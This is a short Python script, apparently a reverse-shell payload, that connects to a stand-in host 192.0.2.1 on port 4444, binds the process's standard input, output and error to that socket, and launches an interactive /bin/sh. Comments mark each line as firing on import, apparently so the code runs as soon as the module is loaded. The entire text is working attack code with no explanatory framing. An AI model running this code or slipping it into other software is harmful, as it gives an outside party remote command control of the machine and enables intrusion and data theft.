import os, socket, subprocess
link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
link.connect(("192.0.2.1", 4444))
os.dup2(link.fileno(), 0)  # fires: import
os.dup2(link.fileno(), 1)  # fires: import
os.dup2(link.fileno(), 2)  # fires: import
subprocess.call(["/bin/sh", "-i"])  # fires: import
